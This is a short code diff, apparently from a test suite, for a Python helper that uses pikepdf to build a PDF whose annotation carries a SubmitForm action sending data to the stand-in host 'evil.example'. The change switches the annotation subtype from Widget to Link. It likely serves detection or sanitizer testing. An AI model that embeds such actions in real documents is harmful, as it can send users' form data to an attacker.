@@ -58,7 +58,7 @@ def launches(made: pikepdf.Pdf) -> None:
 
 def submits(made: pikepdf.Pdf) -> None:
     act = Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
-    note = Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), A=act)
+    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
     made.pages[0].obj.Annots = Array([made.make_indirect(note)])
 
 
